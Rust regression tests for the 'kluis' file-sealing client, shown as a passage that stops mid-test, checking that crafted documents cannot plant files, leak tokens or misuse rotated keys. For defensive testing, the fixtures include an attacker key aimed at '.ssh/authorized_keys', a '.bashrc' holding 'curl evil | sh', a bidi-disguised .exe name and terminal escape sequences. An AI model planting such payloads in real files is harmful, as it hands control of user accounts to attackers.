//! Regression tests for the client defects of issue 17 (section 1): the real `kluis` binary
//! against a real `kluis-server` process.

mod common;

use common::{Recorder, Server, ServerExt, User, tree, write};
use kluis_core::{Metadata, Recipient, Slot};

/// A document sealed to label `hr` of `server`, storing `name`, as anyone can craft one (label
/// public keys need no login).
fn crafted(server: &Server, name: &str, payload: &[u8]) -> Vec<u8> {
    let slots = [Slot::single(Recipient::Label(server.label_key("hr")))];
    kluis_core::seal(&slots, &Metadata::default().name(name), payload).unwrap()
}

/// Defect 4: a document opened on its own writes a plain file name in the output folder: no
/// folders, no dot-files unless asked for.
#[test]
fn a_single_document_writes_only_a_plain_file_name() {
    let server = Server::start();
    let alice = User::logged_in(&server, &server.alice);
    write(
        &alice.path("a.kluis"),
        &crafted(
            &server,
            ".ssh/authorized_keys",
            b"ssh-ed25519 AAAA attacker",
        ),
    );
    alice.run(&["open", "a.kluis"]).ok();
    assert!(!alice.path(".ssh").exists(), "no folder is created");
    assert_eq!(
        std::fs::read(alice.path("authorized_keys")).unwrap(),
        b"ssh-ed25519 AAAA attacker"
    );

    // A hidden file is refused unless asked for, and nothing is written.
    write(
        &alice.path("b.kluis"),
        &crafted(&server, ".bashrc", b"curl evil | sh"),
    );
    let run = alice.run(&["open", "-o", "out", "b.kluis"]);
    run.fails(2, "--allow-dotfiles");
    assert!(tree(&alice.path("out")).is_empty());
    alice
        .run(&["open", "-o", "out", "--allow-dotfiles", "b.kluis"])
        .ok();
    assert_eq!(tree(&alice.path("out")), [".bashrc"]);

    // Inside a folder the paths are kept, below the output folder, and listed.
    write(
        &alice.path("in/c.kluis"),
        &crafted(&server, "x/y/plan.txt", b"plan"),
    );
    let run = alice.run(&["open", "-o", "back", "in"]).ok();
    assert_eq!(tree(&alice.path("back")), ["x/y/plan.txt"]);
    assert!(run.stderr.contains("plan.txt"), "{}", run.stderr);
}

/// Defect 4: `-f` never replaces a sealed document, whatever name a crafted one stores.
#[test]
fn force_never_replaces_a_sealed_document() {
    let server = Server::start();
    let alice = User::logged_in(&server, &server.alice);
    write(&alice.path("d.txt"), b"precious");
    alice.run(&["seal", "--label", "hr", "d.txt"]).ok();
    let before = std::fs::read(alice.path("d.txt.kluis")).unwrap();
    for (file, name) in [("c.kluis", "d.txt.kluis"), ("e.kluis", "D.TXT.KLUIS")] {
        write(&alice.path(file), &crafted(&server, name, b"junk"));
        let run = alice.run(&["open", "-f", file]);
        assert_ne!(run.code, 0, "{}", run.stderr);
        assert!(run.stderr.contains("refused"), "{}", run.stderr);
    }
    assert_eq!(std::fs::read(alice.path("d.txt.kluis")).unwrap(), before);
    assert!(!alice.path("D.TXT.KLUIS").exists());
}

/// Defect 4: bidirectional overrides and names over the file system's limit are refused with a
/// message that says why (not "try again"), and the name is not echoed.
#[test]
fn disguised_and_overlong_names_are_refused_clearly() {
    let server = Server::start();
    let alice = User::logged_in(&server, &server.alice);
    write(
        &alice.path("bidi.kluis"),
        &crafted(&server, "invoice\u{202E}fdp.exe", b"MZ"),
    );
    alice
        .run(&["open", "-o", "out", "bidi.kluis"])
        .fails(7, "formatting character");
    let long = "n".repeat(300);
    write(&alice.path("long.kluis"), &crafted(&server, &long, b"x"));
    let run = alice
        .run(&["open", "-o", "out", "long.kluis"])
        .fails(7, "longer than 255 bytes");
    assert!(!run.stderr.contains("try again"), "{}", run.stderr);
    assert!(!run.stderr.contains(&long));
    assert!(tree(&alice.path("out")).is_empty());
}

/// Defect 3: the saved token is bound to the server it was saved for: `--server`,
/// `KLUIS_SERVER` or `config set server` pointing elsewhere never receive it.
#[test]
fn the_saved_token_is_never_sent_to_another_server() {
    let server = Server::start();
    let alice = User::logged_in(&server, &server.alice);
    write(&alice.path("r.txt"), b"report");
    alice.run(&["seal", "--label", "hr", "r.txt"]).ok();
    let other = Recorder::start();
    let token_part = &server.alice[server.alice.len() - 12..];

    let run = alice.run(&["--server", &other.url, "open", "-o", "o1", "r.txt.kluis"]);
    assert_ne!(run.code, 0);
    assert!(run.stderr.contains("not sent"), "{}", run.stderr);
    alice.run(&["--server", &other.url, "audit"]);
    alice.run(&["--server", &other.url, "status"]);
    let mut by_env = alice.command();
    by_env
        .env("KLUIS_SERVER", &other.url)
        .args(["open", "-o", "o2", "r.txt.kluis"])
        .output()
        .unwrap();
    alice.run(&["config", "set", "server", &other.url]).ok();
    alice.run(&["open", "-o", "o3", "r.txt.kluis"]);
    alice.run(&["audit"]);
    let seen = other.text();
    assert!(
        seen.contains("HTTP/1.1"),
        "the other server was asked: {seen}"
    );
    assert!(
        !seen.contains(token_part),
        "the token went to {}",
        other.url
    );
    assert!(
        !seen.to_ascii_lowercase().contains("authorization"),
        "{seen}"
    );

    // Back on the server it was saved for, it is used again.
    alice.run(&["config", "set", "server", &server.url]).ok();
    alice.run(&["open", "-o", "o4", "r.txt.kluis"]).ok();
    assert_eq!(std::fs::read(alice.path("o4/r.txt")).unwrap(), b"report");
}

/// The key versions a sealed document's stanzas name, from `kluis inspect --json`.
fn kids_of(user: &User, file: &str) -> Vec<u64> {
    let v = user.run(&["--json", "inspect", file]).ok().json();
    let text = v.to_string();
    let mut kids = Vec::new();
    let mut rest = text.as_str();
    while let Some(i) = rest.find("\"kid\":") {
        rest = &rest[i + 6..];
        let n: String = rest.chars().take_while(|c| c.is_ascii_digit()).collect();
        kids.push(n.parse().unwrap());
    }
    kids
}

/// Defect 1: with a label record cached (for an hour by default), a rotation and the
/// destruction of version 1 on the server must not let new documents be sealed to version 1
/// while the server is reachable; offline, sealing uses the cache and says so, and a record
/// that `kluis labels` saw superseded is not used.
#[test]
fn sealing_never_uses_a_rotated_away_key_version_while_online() {
    let mut server = Server::start();
    let alice = User::logged_in(&server, &server.alice);
    write(&alice.path("a.txt"), b"first");
    alice.run(&["seal", "--label", "hr", "a.txt"]).ok();
    assert_eq!(kids_of(&alice, "a.txt.kluis"), [1]);

    server.admin(&["label", "rotate", "hr"]);
    server.admin(&["label", "destroy", "hr", "1", "--confirm", "hr"]);
    write(&alice.path("b.txt"), b"second");
    let v = alice
        .run(&["--json", "seal", "--label", "hr", "b.txt"])
        .ok()
        .json();
    assert_eq!(v["kid"], 2, "{v}");
    assert_eq!(kids_of(&alice, "b.txt.kluis"), [2]);
    alice.run(&["open", "-o", "out", "b.txt.kluis"]).ok();
    assert_eq!(std::fs::read(alice.path("out/b.txt")).unwrap(), b"second");

    // Offline: the cache is used, and the person is told.
    server.stop();
    write(&alice.path("c.txt"), b"third");
    let run = alice
        .run(&["--json", "seal", "--label", "hr", "c.txt"])
        .ok();
    assert!(
        run.stderr.contains("sealing from the cached record"),
        "{}",
        run.stderr
    );
    assert_eq!(run.json()["kid"], 2);
}

/// Defect 1: `kluis labels` showing a newer version refreshes the cached record, so offline
/// sealing afterwards uses the new version.
#[test]
fn labels_refreshes_a_superseded_cached_record() {
    let mut server = Server::start();
    let alice = User::logged_in(&server, &server.alice);
    write(&alice.path("a.txt"), b"first");
    alice.run(&["seal", "--label", "hr", "a.txt"]).ok();
    server.admin(&["label", "rotate", "hr"]);
    server.admin(&["label", "retire", "hr", "1"]);
    alice.run(&["labels"]).ok();
    server.stop();
    write(&alice.path("b.txt"), b"second");
    let v = alice
        .run(&["--json", "seal", "--label", "hr", "b.txt"])
        .ok()
        .json();
    assert_eq!(v["kid"], 2, "{v}");
}

/// Defect 2: re-sealing a changed file with hidden names into the same folder replaces its
/// sealed copy (one stable hidden name per path), and opening restores the new content.
#[test]
fn resealing_with_hidden_names_replaces_the_sealed_copy() {
    let server = Server::start();
    let alice = User::logged_in(&server, &server.alice);
    write(&alice.path("src/a.txt"), b"version one");
    write(&alice.path("src/sub/b.txt"), b"bee");
    let seal = [
        "seal",
        "--label",
        "hr",
        "--hide-names",
        "-o",
        "cloud",
        "src",
    ];
    alice.run(&seal).ok();
    let first = tree(&alice.path("cloud"));
    assert_eq!(first.len(), 2);
    write(&alice.path("src/a.txt"), b"version two, longer");
    // Without --force the existing copies are left alone and nothing is added.
    alice.run(&seal).fails(8, "--force");
    assert_eq!(tree(&alice.path("cloud")), first);
    let mut forced = seal.to_vec();
    forced.push("--force");
    alice.run(&forced).ok();
    assert_eq!(tree(&alice.path("cloud")), first, "same hidden names");
    alice.run(&["open", "-o", "back", "cloud"]).ok();
    assert_eq!(
        std::fs::read(alice.path("back/src/a.txt")).unwrap(),
        b"version two, longer"
    );
}

/// Defect 2: when two documents claim one path, `open` says so and restores the newest,
/// whatever their file names (never the one that happens to be listed last).
#[test]
fn two_documents_for_one_path_open_the_newest_and_say_so() {
    let server = Server::start();
    let alice = User::logged_in(&server, &server.alice);
    let slots = [Slot::single(Recipient::Label(server.label_key("hr")))];
    let at = |secs| std::time::UNIX_EPOCH + std::time::Duration::from_secs(secs);
    let doc = |text: &[u8], secs| {
        let mut m = Metadata::default().name("dir/same.txt");
        m.modified = Some(at(secs));
        kluis_core::seal(&slots, &m, text).unwrap()
    };
    for (folder, old_name, new_name) in
        [("one", "a.kluis", "z.kluis"), ("two", "z.kluis", "a.kluis")]
    {
        write(
            &alice.path(&format!("{folder}/{old_name}")),
            &doc(b"old", 1_600_000_000),
        );
        write(
            &alice.path(&format!("{folder}/{new_name}")),
            &doc(b"new", 1_700_000_000),
        );
        let run = alice
            .run(&["open", "-o", &format!("out-{folder}"), folder])
            .ok();
        assert!(
            run.stderr.contains("restore to the same file"),
            "{}",
            run.stderr
        );
        assert!(run.stderr.contains(new_name), "{}", run.stderr);
        assert_eq!(
            std::fs::read(alice.path(&format!("out-{folder}/dir/same.txt"))).unwrap(),
            b"new"
        );
    }
}

/// Run `kluis args` with standard output a pipe whose reader has already gone.
fn with_closed_stdout(user: &User, args: &[&str]) -> common::Run {
    let mut child = user
        .command()
        .args(args)
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    let out = child.wait_with_output().unwrap();
    common::Run {
        code: out.status.code().unwrap_or(-1),
        stdout: out.stdout,
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

/// Defect 5: after more than 1000 openings `kluis audit` shows the newest first, with the
/// total and a way to page to older ones.
#[test]
fn audit_shows_the_newest_first_with_a_count_and_paging() {
    let server = Server::start();
    let alice = User::logged_in(&server, &server.alice);
    let slots = [Slot::single(Recipient::Label(server.label_key("hr")))];
    for i in 0..1001 {
        let d = kluis_core::seal(&slots, &Metadata::default().name(format!("f{i}")), b".").unwrap();
        write(&alice.path(&format!("many/{i:04}.kluis")), &d);
    }
    alice.run(&["open", "-q", "-o", "out", "many"]).ok();
    let d = kluis_core::seal(&slots, &Metadata::default().name("last.txt"), b"!").unwrap();
    write(&alice.path("last.kluis"), &d);
    alice
        .run(&[
            "open",
            "-o",
            "out",
            "--reason",
            "the very latest",
            "last.kluis",
        ])
        .ok();

    let v = alice.run(&["--json", "audit"]).ok().json();
    assert_eq!(v["total"], 1002, "{}", v["total"]);
    let events = v["events"].as_array().unwrap();
    assert_eq!(events.len(), 100);
    assert_eq!(events[0]["reason"], "the very latest");
    let seqs: Vec<i64> = events.iter().map(|e| e["seq"].as_i64().unwrap()).collect();
    assert!(seqs.windows(2).all(|w| w[0] > w[1]), "newest first");
    assert_eq!(v["older"], 902);

    // The next page continues where this one ended.
    let before = v["next_before"].as_i64().unwrap();
    assert_eq!(before, *seqs.last().unwrap());
    let next = alice
        .run(&[
            "--json",
            "audit",
            "--before",
            &before.to_string(),
            "-n",
            "5000",
        ])
        .ok()
        .json();
    let older = next["events"].as_array().unwrap();
    assert_eq!(older.len(), 902);
    assert!(older.iter().all(|e| e["seq"].as_i64().unwrap() < before));
    assert_eq!(next["older"], 0);

    let human = alice.run(&["audit", "-n", "3"]).ok();
    let lines: Vec<&str> = human
        .stdout
        .split(|&b| b == b'\n')
        .map(|l| std::str::from_utf8(l).unwrap())
        .collect();
    assert!(lines[1].contains("the very latest"), "{lines:?}");
    assert!(human.stderr.contains("3 of 1002"), "{}", human.stderr);
    assert!(human.stderr.contains("--before"), "{}", human.stderr);
}

/// Defect 8: `kluis audit | head -1`, `kluis completions bash | true`: a closed standard
/// output ends the command quietly, without a panic.
#[test]
fn a_closed_standard_output_is_not_a_panic() {
    let server = Server::start();
    let alice = User::logged_in(&server, &server.alice);
    // `kluis audit | head -1`, `kluis completions bash | true`: quiet, no panic.
    for args in [
        &["audit"][..],
        &["completions", "bash"],
        &["man"],
        &["labels"],
    ] {
        let run = with_closed_stdout(&alice, args);
        assert!(!run.stderr.contains("panicked"), "{args:?}: {}", run.stderr);
        assert_eq!(run.code, 0, "{args:?}: {}", run.stderr);
    }
}

/// Defect 8: `rekey -f` of a document already on the current version says it rewrote the
/// slots (not "moved v2 → v2"), and `-q` prints nothing.
#[test]
fn rekey_force_says_rewrote_and_quiet_is_quiet() {
    let server = Server::start();
    let alice = User::logged_in(&server, &server.alice);
    write(&alice.path("a.txt"), b"a");
    alice.run(&["seal", "--label", "hr", "a.txt"]).ok();
    let quiet = alice.run(&["-q", "rekey", "-f", "a.txt.kluis"]).ok();
    assert!(quiet.stdout.is_empty(), "{}", quiet.stdout_text());
    let run = alice.run(&["rekey", "-f", "a.txt.kluis"]).ok();
    let out = run.stdout_text();
    assert!(!out.contains("v1 → v1"), "{out}");
    assert!(out.contains("rewrote"), "{out}");
    let v = alice
        .run(&["--json", "rekey", "-f", "a.txt.kluis"])
        .ok()
        .json();
    assert_eq!(v["files"][0]["outcome"], "rewritten", "{v}");
}

/// Defect 8: a new identity needs a passphrase of some length; an identity file others can
/// read is used with a warning.
#[cfg(unix)]
#[test]
fn short_passphrases_are_refused_and_open_identity_files_warned_about() {
    use std::os::unix::fs::PermissionsExt;
    let server = Server::start();
    let mut alice = User::logged_in(&server, &server.alice);
    alice.env.push(("PASS".into(), "x".into()));
    alice
        .run(&["keygen", "--passphrase-env", "PASS"])
        .fails(2, "at least 12 characters");
    assert!(!alice.config_dir().join("identity.key").exists());
    alice.env.clear();
    alice
        .env
        .push(("PASS".into(), "a passphrase long enough".into()));
    alice.run(&["keygen", "--passphrase-env", "PASS"]).ok();
    let id = alice.config_dir().join("identity.key");
    write(&alice.path("d.txt"), b"double");
    alice.run(&["seal", "--label", "medical", "d.txt"]).ok();
    let quiet = alice
        .run(&[
            "open",
            "--passphrase-env",
            "PASS",
            "-o",
            "o1",
            "d.txt.kluis",
        ])
        .ok();
    assert!(!quiet.stderr.contains("other users"), "{}", quiet.stderr);
    std::fs::set_permissions(&id, std::fs::Permissions::from_mode(0o644)).unwrap();
    let run = alice
        .run(&[
            "open",
            "--passphrase-env",
            "PASS",
            "-o",
            "o2",
            "d.txt.kluis",
        ])
        .ok();
    assert!(
        run.stderr.contains("can be read by other users"),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("chmod 600"), "{}", run.stderr);

    // Also when only its public part is used (no passphrase: the key recorded at keygen):
    // sealing to a double-key label, and `keygen --public`.
    write(&alice.path("e.txt"), b"double again");
    let run = alice.run(&["seal", "--label", "medical", "e.txt"]).ok();
    assert!(
        run.stderr.contains("can be read by other users"),
        "{}",
        run.stderr
    );
    let run = alice
        .run(&["keygen", "--public", id.to_str().unwrap()])
        .ok();
    assert!(
        run.stderr.contains("can be read by other users"),
        "{}",
        run.stderr
    );

    // The advice is a command that works as it is, even for a path with a space and a quote.
    let odd = alice.path("it's my keys/id.key");
    std::fs::create_dir_all(odd.parent().unwrap()).unwrap();
    alice
        .run(&[
            "keygen",
            "--passphrase-env",
            "PASS",
            "-o",
            odd.to_str().unwrap(),
        ])
        .ok();
    std::fs::set_permissions(&odd, std::fs::Permissions::from_mode(0o644)).unwrap();
    let run = alice
        .run(&[
            "open",
            "--identity",
            odd.to_str().unwrap(),
            "--passphrase-env",
            "PASS",
            "-o",
            "o3",
            "d.txt.kluis",
        ])
        .fails(9, "no slot");
    let advice = run.stderr.split("run `").nth(1).unwrap();
    let advice = &advice[..advice.find('`').unwrap()];
    let sh = std::process::Command::new("sh")
        .args(["-c", advice])
        .current_dir(alice.home.path())
        .status()
        .unwrap();
    assert!(sh.success(), "{advice}");
    let mode = std::fs::metadata(&odd).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600, "{advice}");

    // Passphrases of blanks, or too short once the blanks around them are left out.
    for pass in [" ".repeat(12), format!("{:^20}", "short"), "\t".repeat(13)] {
        alice.env.retain(|(k, _)| k != "BLANK");
        alice.env.push(("BLANK".into(), pass));
        alice
            .run(&["keygen", "--passphrase-env", "BLANK", "-o", "blank.key"])
            .fails(2, "at least 12 characters");
        assert!(!alice.path("blank.key").exists());
    }
}

/// Defect 8: a symbolic link given as the folder to seal is not a silent success of nothing,
/// and a `.kluis` file given by name is not sealed a second time.
#[cfg(unix)]
#[test]
fn symlinked_folder_and_sealed_file_arguments_fail_clearly() {
    let server = Server::start();
    let alice = User::logged_in(&server, &server.alice);
    write(&alice.path("real/a.txt"), b"a");
    std::os::unix::fs::symlink(alice.path("real"), alice.path("link")).unwrap();
    alice
        .run(&["seal", "--label", "hr", "link"])
        .fails(2, "symbolic link");
    assert!(tree(&alice.path("real")) == ["a.txt"]);

    write(&alice.path("b.txt"), b"b");
    alice.run(&["seal", "--label", "hr", "b.txt"]).ok();
    alice
        .run(&["seal", "--label", "hr", "b.txt.kluis"])
        .fails(2, "sealed already");
    assert!(!alice.path("b.txt.kluis.kluis").exists());

    // Whatever the case of its extension, or its name: a sealed document is recognised by
    // its name or by its first bytes (the `KLUIS\0` magic).
    let sealed = std::fs::read(alice.path("b.txt.kluis")).unwrap();
    for name in ["F.KLUIS", "g.Kluis", "renamed.bin"] {
        write(&alice.path(name), &sealed);
        alice
            .run(&["seal", "--label", "hr", name])
            .fails(2, "sealed already");
        assert!(!alice.path(&format!("{name}.kluis")).exists(), "{name}");
    }
    // Inside a folder too: nothing in it is sealed a second time.
    write(&alice.path("dir/H.KLUIS"), &sealed);
    write(&alice.path("dir/sub/renamed.bin"), &sealed);
    write(&alice.path("dir/plain.txt"), b"plain");
    let run = alice.run(&["seal", "--label", "hr", "-o", "out", "dir"]);
    assert!(run.stderr.contains("sealed already"), "{}", run.stderr);
    assert_eq!(tree(&alice.path("out")), ["dir/plain.txt.kluis"]);
}

/// Defect 8: `status` asks the server whether it accepts the token.
#[test]
fn status_says_when_the_server_refuses_the_token() {
    let server = Server::start();
    let alice = User::logged_in(&server, &server.alice);
    let ok = alice.run(&["status"]).ok();
    assert!(
        ok.stdout_text().contains("accepted"),
        "{}",
        ok.stdout_text()
    );
    server.admin(&["token", "revoke", &server.alice_id]);
    let run = alice.run(&["status"]);
    assert_eq!(run.code, 4, "{}", run.stderr);
    assert!(
        run.stdout_text().contains("REFUSED"),
        "{}",
        run.stdout_text()
    );
    assert!(run.stdout_text().contains("kluis login"));
    let v = alice.run(&["--json", "status"]).json();
    assert_eq!(v["token_accepted"], false);
}

/// Run `kluis args` with standard input and output on a pseudo-terminal (via `script`).
fn on_terminal(user: &User, args: &str) -> Option<(i32, String)> {
    let script = ["/usr/bin/script", "/bin/script"]
        .into_iter()
        .find(|p| std::path::Path::new(p).exists())?;
    let base = user.command();
    let mut c = std::process::Command::new(script);
    c.current_dir(user.work());
    for (k, v) in base.get_envs() {
        match v {
            Some(v) => c.env(k, v),
            None => c.env_remove(k),
        };
    }
    let cmd = format!("{} {args}", env!("CARGO_BIN_EXE_kluis"));
    let out = c
        .args(["-qec", &cmd, "/dev/null"])
        .stdin(std::process::Stdio::null())
        .output()
        .ok()?;
    Some((
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
    ))
}

/// Defect 8: opened text with terminal escape sequences is not written to a terminal (it
/// could retitle, clear or reprogram it); to a pipe it is written as it is.
#[test]
fn escape_sequences_are_not_written_to_a_terminal() {
    let server = Server::start();
    let alice = User::logged_in(&server, &server.alice);
    let evil = b"looks harmless\n\x1b]0;pwned\x07\x1b[2J\x1b[8mhidden\n";
    let doc = alice
        .run_in(&["seal", "--label", "hr"], Some(evil))
        .ok()
        .stdout;
    write(&alice.path("evil.kluis"), &doc);
    let piped = alice.run_in(&["open"], Some(&doc)).ok();
    assert_eq!(piped.stdout, evil, "a pipe gets the bytes as they are");
    let Some((code, out)) = on_terminal(&alice, "open - < evil.kluis") else {
        eprintln!("skipped: `script` (util-linux) is not installed, so there is no pty");
        return;
    };
    assert_eq!(code, 2, "{out:?}");
    assert!(out.contains("control characters"), "{out:?}");
    assert!(!out.contains('\u{1b}'), "{out:?}");
}

/// The byte layout of a header (kluis-core's tests and vector generator share it).
#[path = "../../kluis-core/tests/layout/mod.rs"]
mod layout;

/// Defect 8: one exit code per kind of failure, and the table in `kluis --help` says which:
/// a flipped document-id byte, ephemeral key (`E`) byte or stanza body byte is tampering (7,
/// not 1); a flipped label or key-version byte names keys the key server does not have, as
/// a document sealed to other keys does (9, not 1 or 5); a double-key document opened
/// without an identity file is a configuration error (2). The codes are listed once, in
/// `kluis --help`, and every row the help gives is checked here against a real failure.
#[test]
fn exit_codes_name_the_kind_of_failure_once() {
    let server = Server::start();
    let alice = User::logged_in(&server, &server.alice);
    write(&alice.path("a.txt"), b"a");
    alice.run(&["seal", "--label", "hr", "a.txt"]).ok();
    let v = alice.run(&["--json", "inspect", "a.txt.kluis"]).ok().json();
    let doc_id = v.to_string();
    let at = doc_id.find("\"doc_id\":\"").unwrap() + 10;
    let hex = &doc_id[at..at + 32];
    let id: Vec<u8> = (0..16)
        .map(|i| u8::from_str_radix(&hex[2 * i..2 * i + 2], 16).unwrap())
        .collect();
    let mut bytes = std::fs::read(alice.path("a.txt.kluis")).unwrap();
    let pos = bytes.windows(16).position(|w| w == id).unwrap();
    bytes[pos + 3] ^= 0x01;
    write(&alice.path("t.kluis"), &bytes);
    alice
        .run(&["open", "-o", "out", "t.kluis"])
        .fails(7, "tampered");

    // One byte of the org stanza flipped, through the real key server.
    let sealed = std::fs::read(alice.path("a.txt.kluis")).unwrap();
    let s = layout::layout(&sealed).slots[0].stanzas[0];
    assert_eq!(s.kind, layout::ORG);
    let label_at = s.content() + 1;
    let kid_at = s.slot_kind(&sealed) - 4;
    for (what, at, code, text) in [
        ("label", label_at, 9, "has no label"),
        ("kid", kid_at, 9, "has no label"),
        ("E", s.ephemeral(&sealed) + 5, 7, "corrupt"),
        ("body", s.body(&sealed) + 7, 7, "corrupt"),
    ] {
        let mut bytes = sealed.clone();
        bytes[at] ^= 0x01;
        let file = format!("flip-{what}.kluis");
        write(&alice.path(&file), &bytes);
        let run = alice.run(&["open", "-o", "out", &file]);
        assert_eq!(run.code, code, "{what}: {}", run.stderr);
        assert!(run.stderr.contains(text), "{what}: {}", run.stderr);
    }
    assert!(tree(&alice.path("out")).is_empty());

    // A double-key document, and no identity file.
    write(&alice.path("d.txt"), b"d");
    let holder = kluis_core::Identity::generate()
        .unwrap()
        .public_key()
        .to_string();
    alice
        .run(&["seal", "--label", "medical", "--to", &holder, "d.txt"])
        .ok();
    alice
        .run(&["open", "-o", "out", "d.txt.kluis"])
        .fails(2, "needs your identity file");

    let stranger = kluis_core::Identity::generate().unwrap();
    let slots = [Slot::single(Recipient::Key(stranger.public_key()))];
    let d = kluis_core::seal(&slots, &Metadata::default().name("s.txt"), b"s").unwrap();
    write(&alice.path("s.kluis"), &d);
    let mut alice = alice;
    alice
        .env
        .push(("PASS".into(), "a passphrase long enough".into()));
    alice.run(&["keygen", "--passphrase-env", "PASS"]).ok();
    alice
        .run(&["open", "--passphrase-env", "PASS", "-o", "out", "s.kluis"])
        .fails(9, "no slot of this document can be opened");

    // The other rows, each from a real failure.
    alice.run(&["open", "-o", "o8", "a.txt.kluis"]).ok();
    alice
        .run(&["open", "-o", "o8", "a.txt.kluis"])
        .fails(8, "already exists");
    let bob = User::logged_in(&server, &server.bob);
    std::fs::copy(alice.path("a.txt.kluis"), bob.path("a.txt.kluis")).unwrap();
    let denied = bob.run(&["open", "-o", "out", "a.txt.kluis"]);
    assert_eq!(denied.code, 5, "{}", denied.stderr);
    write(&alice.path("v2.txt"), b"v2");
    server.admin(&["label", "rotate", "hr"]);
    alice.run(&["seal", "--label", "hr", "v2.txt"]).ok();
    server.admin(&["label", "destroy", "hr", "1", "--confirm", "hr"]);
    alice
        .run(&["open", "-o", "out", "a.txt.kluis"])
        .fails(6, "destroyed");
    server.admin(&["token", "revoke", &server.alice_id]);
    alice
        .run(&["open", "-o", "out", "v2.txt.kluis"])
        .fails(4, "kluis login");
    let mut server = server;
    server.stop();
    let offline = alice.run(&["open", "-o", "out", "v2.txt.kluis"]);
    assert_eq!(offline.code, 3, "{}", offline.stderr);
    alice
        .run(&["open", "-o", "out", "--bogus"])
        .fails(2, "--bogus");
    assert!(tree(&alice.path("out")).is_empty());

    let top = alice.run(&["--help"]).ok().stdout_text();
    assert!(top.contains("Exit codes"), "{top}");
    let row = |code: u8| {
        let at = top
            .find(&format!("\n  {code}  "))
            .unwrap_or_else(|| panic!("{code}: {top}"));
        let rest = &top[at + 5..];
        // Up to the next row ("\n  N  ") or the end of the table.
        let end = rest
            .match_indices('\n')
            .map(|(i, _)| i)
            .find(|&i| {
                let next = rest[i + 1..].trim_start_matches(' ');
                next.starts_with(|c: char| c.is_ascii_digit()) || next.starts_with("When")
            })
            .unwrap_or(rest.len());
        rest[..end].split_whitespace().collect::<Vec<_>>().join(" ")
    };
    // What the help says of each code seen above.
    assert!(
        row(2).contains("a document needs your identity file and none is given"),
        "{}",
        row(2)
    );
    assert!(row(7).contains("tampered with"), "{}", row(7));
    assert!(
        row(9).contains("a label or key version the key server does not have"),
        "{}",
        row(9)
    );
    assert!(!row(9).contains("identity file"), "{}", row(9));
    assert!(row(3).contains("cannot be reached"), "{}", row(3));
    assert!(row(4).contains("revoked"), "{}", row(4));
    assert!(row(5).contains("denied"), "{}", row(5));
    assert!(row(6).contains("destroyed"), "{}", row(6));
    assert!(row(8).contains("output exists"), "{}", row(8));
    for sub in ["open", "seal", "audit", "status"] {
        let help = alice.run(&[sub, "--help"]).ok().stdout_text();
        assert!(!help.contains("Exit codes"), "{sub}: {help}");
    }
}

/// A `.kluis-tmp-` file at `path` as `kill -9` leaves one, last modified `age_secs` ago.
fn leftover(path: &std::path::Path, age_secs: u64) -> std::fs::File {
    write(path, b"plaintext of an interrupted run");
    let f = std::fs::OpenOptions::new().write(true).open(path).unwrap();
    f.set_modified(std::time::SystemTime::now() - std::time::Duration::from_secs(age_secs))
        .unwrap();
    f
}

/// Defect 8: temporary files left by `kill -9` (up to a whole plaintext) are removed by the
/// next run that meets them, in the folders it reads and the folders it writes; a temporary
/// file that a running kluis holds, or that is minutes young, is left alone.
#[cfg(unix)]
#[test]
fn stale_temporary_files_are_cleaned_safely_on_the_next_run() {
    let server = Server::start();
    let alice = User::logged_in(&server, &server.alice);
    write(&alice.path("docs/a.txt"), b"a");
    let stale_in = alice.path("docs/.kluis-tmp-aaaaaaaaaaaaaaaaaaaaaaaaaa");
    let young = alice.path("docs/.kluis-tmp-bbbbbbbbbbbbbbbbbbbbbbbbbb");
    let held = alice.path("docs/.kluis-tmp-cccccccccccccccccccccccccc");
    drop(leftover(&stale_in, 600));
    drop(leftover(&young, 5));
    let lock = leftover(&held, 600);
    // As a running kluis holds its own.
    rustix::fs::flock(&lock, rustix::fs::FlockOperation::NonBlockingLockExclusive).unwrap();
    let stale_out = alice.path("sealed/docs/.kluis-tmp-dddddddddddddddddddddddddd");
    drop(leftover(&stale_out, 600));

    let run = alice
        .run(&["seal", "--label", "hr", "-o", "sealed", "docs"])
        .ok();
    assert!(!stale_in.exists(), "stale, in the folder sealed");
    assert!(!stale_out.exists(), "stale, in the folder written");
    assert!(young.exists(), "too young to be stale");
    assert!(held.exists(), "held by a running process");
    assert!(run.stderr.contains("it was removed"), "{}", run.stderr);
    assert_eq!(
        tree(&alice.path("sealed")),
        ["docs/a.txt.kluis"],
        "only the sealed file is left in the output"
    );

    // Opening: the output folder is swept too.
    let stale_open = alice.path("back/docs/.kluis-tmp-eeeeeeeeeeeeeeeeeeeeeeeeee");
    drop(leftover(&stale_open, 600));
    alice.run(&["open", "-o", "back", "sealed"]).ok();
    assert!(!stale_open.exists());
    assert_eq!(tree(&alice.path("back")), ["docs/a.txt"]);
    drop(lock);
}

/// Defect 8: opening into a cloud sync folder warns that the plaintext may be uploaded.
#[test]
fn opening_into_a_sync_folder_warns() {
    let server = Server::start();
    let alice = User::logged_in(&server, &server.alice);
    write(&alice.path("OneDrive - Gemeente/r.txt"), b"r");
    alice
        .run(&[
            "seal",
            "--label",
            "hr",
            "--remove-original",
            "OneDrive - Gemeente/r.txt",
        ])
        .ok();
    let run = alice.run(&["open", "OneDrive - Gemeente/r.txt.kluis"]).ok();
    assert!(
        run.stderr.contains("OneDrive sync folder"),
        "{}",
        run.stderr
    );
    let elsewhere = alice
        .run(&["open", "-o", "local", "OneDrive - Gemeente/r.txt.kluis"])
        .ok();
    assert!(
        !elsewhere.stderr.contains("sync folder"),
        "{}",
        elsewhere.stderr
    );
}

/// Defect 8: empty folders survive sealing into an output folder and opening from it.
#[test]
fn empty_folders_are_kept_on_seal_and_open() {
    let server = Server::start();
    let alice = User::logged_in(&server, &server.alice);
    write(&alice.path("src/a.txt"), b"a");
    std::fs::create_dir_all(alice.path("src/empty/deeper")).unwrap();
    std::fs::create_dir_all(alice.path("src/also-empty")).unwrap();
    alice
        .run(&["seal", "--label", "hr", "-o", "sealed", "src"])
        .ok();
    assert!(alice.path("sealed/src/empty/deeper").is_dir());
    assert!(alice.path("sealed/src/also-empty").is_dir());
    alice.run(&["open", "-o", "back", "sealed"]).ok();
    assert!(alice.path("back/src/empty/deeper").is_dir());
